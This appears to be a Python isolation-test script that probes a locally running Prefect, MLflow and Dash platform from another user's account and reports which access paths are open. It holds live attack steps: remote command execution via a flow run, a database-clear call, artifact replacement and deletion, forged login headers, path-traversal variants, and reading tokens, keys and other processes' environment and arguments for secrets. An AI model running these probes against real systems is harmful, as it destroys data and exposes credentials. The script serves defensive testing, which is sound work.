"""Tries every way into a running platform that another user of the machine has.

    python3 outsider.py < target.json

It prints one JSON object: way → what it got where the way is open, and null where it is closed.
It is run as another user, so it needs nothing but the standard library; `target.json` is a
`Target`, and holds no secret.
"""

from __future__ import annotations

import contextlib
import http.client
import json
import os
import socket
import sys
from base64 import b64encode
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

SECONDS = 20.0
CALL = {
    "output": "address.search",
    "outputs": {"id": "address", "property": "search"},
    "inputs": [{"id": "step", "property": "value", "value": None}],
    "changedPropIds": ["step.value"],
    "state": [{"id": "address", "property": "search", "value": ""}],
}
"""What the explorer's page asks its server when the step is chosen."""

CALLED = "/_dash-update-component"
WEBSOCKETS = ("/api/events/in", "/api/events/out", "/api/logs/out")


@dataclass(frozen=True)
class Target:
    """What an outsider knows of a platform, and more.

    `prefect`, `mlflow` and `explorer` are `host:port`, `deployment`, `experiment` and `artifact`
    what lies there; `home` is the home's folder, `processes` are those of the platform, `cookie` is
    the name of the login's cookie.
    """

    prefect: str
    mlflow: str
    explorer: str
    deployment: str
    artifact: str
    home: str
    processes: list[int]
    cookie: str


def ask(
    server: str, method: str, path: str, body: object = None, headers: dict[str, str] | None = None
) -> str | None:
    """What the server answers a request that it grants."""
    connection = http.client.HTTPConnection(server, timeout=SECONDS)
    data = None if body is None else body if isinstance(body, bytes) else json.dumps(body).encode()
    given = {"Content-Type": "application/json"} if data else {}
    try:
        connection.putrequest(method, path)
        for name, value in {**given, **(headers or {})}.items():
            connection.putheader(name, value)
        if data is not None:
            connection.putheader("Content-Length", str(len(data)))
        connection.endheaders(data)
        answer = connection.getresponse()
        text = answer.read(400).decode(errors="replace")
        return f"{answer.status} {text}" if answer.status < 400 else None
    finally:
        connection.close()


def websocket(server: str, path: str, headers: str = "") -> str | None:
    """What the server answers where it accepts a WebSocket."""
    key = b64encode(os.urandom(16)).decode()
    request = (
        f"GET {path} HTTP/1.1\r\nHost: {server}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n"
        f"Sec-WebSocket-Protocol: prefect\r\n{headers}\r\n"
    )
    said = talk(int(server.rpartition(":")[2]), request.encode())
    return said.decode(errors="replace") if b" 101 " in said.partition(b"\r\n")[0] else None


def talk(port: int, words: bytes) -> bytes:
    """What a port answers, at first."""
    with socket.create_connection(("127.0.0.1", port), timeout=SECONDS) as connection:
        connection.sendall(words)
        return connection.recv(4000)


def read(path: str) -> str | None:
    """The first bytes of a file, or what a folder lists."""
    place = Path(path)
    with contextlib.suppress(OSError):
        if place.is_dir():
            return " ".join(entry.name for entry in place.iterdir()) or "it is empty"
        with place.open("rb") as stream:
            return stream.read(60).decode(errors="replace") or "it is empty"
    return None


def write(path: str) -> str | None:
    """Whether a file can be made or changed."""
    with contextlib.suppress(OSError), Path(path).open("ab"):
        return "it can be written"
    return None


def every_file(home: str) -> str | None:
    """Files below the home that can be read, by names that everybody knows."""
    names = (
        "token",
        "key",
        "services.json",
        "prefect/prefect.db",
        "mlflow/mlflow.db",
        "mlflow/artifacts",
        "logs/prefect.log",
        "store",
        "store/stages",
        "outbox",
        "reports",
        "scratch",
    )
    return ", ".join(name for name in names if read(f"{home}/{name}") is not None) or None


def secrets_of(processes: list[int], part: str) -> str | None:
    """Which processes' environment can be read, or which name a secret in their arguments."""
    names = ("TOKEN", "PASSWORD", "Authorization", "SECRET", "KEY", "token=")
    found = []
    for pid in processes:
        text = read_whole(f"/proc/{pid}/{part}")
        if text and (part == "environ" or any(name in text for name in names)):
            found.append(str(pid))
    return ", ".join(found) or None


def read_whole(path: str) -> str:
    """A file's text; empty where it cannot be read."""
    with contextlib.suppress(OSError):
        return Path(path).read_text(errors="replace")
    return ""


Way = tuple[str, Callable[[], "str | None"]]


def ways(target: Target) -> Iterator[Way]:
    """Every way: its name, and how it is tried; what it gets where it is open."""
    prefect, mlflow = target.prefect, target.mlflow
    run = {"job_variables": {"command": "id"}, "parameters": {}}
    create = f"/api/deployments/{target.deployment}/create_flow_run"
    artifact = f"/api/2.0/mlflow-artifacts/artifacts/{target.artifact}"
    run_of = {"experiment_id": "0", "start_time": 0}
    yield "Prefect: start a run", lambda: ask(prefect, "POST", create, run)
    yield "Prefect: list deployments", lambda: ask(prefect, "POST", "/api/deployments/filter", {})
    yield "Prefect: read settings", lambda: ask(prefect, "GET", "/api/admin/settings")
    yield "Prefect: read the interface", lambda: ask(prefect, "GET", "/ui-settings")
    yield (
        "Prefect: empty the database",
        lambda: ask(prefect, "POST", "/api/admin/database/clear", {"confirm": True}),
    )
    for path in WEBSOCKETS:
        yield f"Prefect: WebSocket {path}", lambda path=path: websocket(prefect, path)  # type: ignore[misc]
    yield (
        "MLflow: list experiments",
        lambda: ask(mlflow, "GET", "/api/2.0/mlflow/experiments/search?max_results=9"),
    )
    yield "MLflow: create a run", lambda: ask(mlflow, "POST", "/api/2.0/mlflow/runs/create", run_of)
    yield (
        "MLflow: create a run as its interface does",
        lambda: ask(mlflow, "POST", "/ajax-api/2.0/mlflow/runs/create", run_of),
    )
    yield (
        "MLflow: read by GraphQL",
        lambda: ask(mlflow, "POST", "/graphql", {"query": "{ __typename }", "operationName": None}),
    )
    yield "MLflow: read an artifact", lambda: ask(mlflow, "GET", artifact)
    yield "MLflow: replace an artifact", lambda: ask(mlflow, "PUT", artifact, b"changed")
    yield "MLflow: delete an artifact", lambda: ask(mlflow, "DELETE", artifact)
    yield "Explorer: read the page", lambda: ask(target.explorer, "GET", "/")
    yield "Explorer: compute", lambda: ask(target.explorer, "POST", CALLED, CALL)
    for name, server, path in (
        ("Prefect", prefect, "/api/admin/version"),
        ("MLflow", mlflow, "/version"),
        ("Explorer", target.explorer, "/_dash-layout"),
    ):
        for form, headers in forged_logins(target.cookie).items():
            yield (
                f"{name}: {form}",
                lambda s=server, p=path, h=headers: ask(  # type: ignore[misc]
                    s, "GET", p, headers=h
                ),
            )
        for trick in (f"/{path}", f"/api/health/..{path}", f"http://{server}{path}", f"{path}?x"):
            yield (
                f"{name}: the path {trick.replace(server, 'SERVER')}",
                lambda s=server, p=trick: (  # type: ignore[misc]
                    ask(s, "GET", p)
                ),
            )
    yield "home: read it", lambda: read(target.home)
    yield "home: read its files", lambda: every_file(target.home)
    yield "home: write into it", lambda: write(f"{target.home}/services.json")
    yield "processes: read their environment", lambda: secrets_of(target.processes, "environ")
    yield (
        "processes: find secrets in their arguments",
        lambda: secrets_of(target.processes, "cmdline"),
    )


def forged_logins(cookie: str) -> dict[str, dict[str, str]]:
    """Headers that look like a login and are none."""
    return {
        "an empty Bearer": {"Authorization": "Bearer "},
        "a guessed Bearer": {"Authorization": f"Bearer {'0' * 64}"},
        "an empty password": {"Authorization": "Basic " + b64encode(b"admin:").decode()},
        "an empty cookie": {"Cookie": f"{cookie}="},
        "a guessed cookie": {"Cookie": f"{cookie}={'0' * 64}"},
        "who one is, by a header": {"X-Forwarded-For": "127.0.0.1", "X-Forwarded-User": "root"},
    }


def tried(way: Callable[[], str | None]) -> str | None:
    """What a way got; a server that hangs up is closed, and one that hangs is not."""
    try:
        return way()
    except TimeoutError:
        return "no answer in time"
    except (OSError, http.client.HTTPException):
        return None


if __name__ == "__main__":
    known = Target(**json.load(sys.stdin))
    print(json.dumps({name: tried(way) for name, way in ways(known)}))
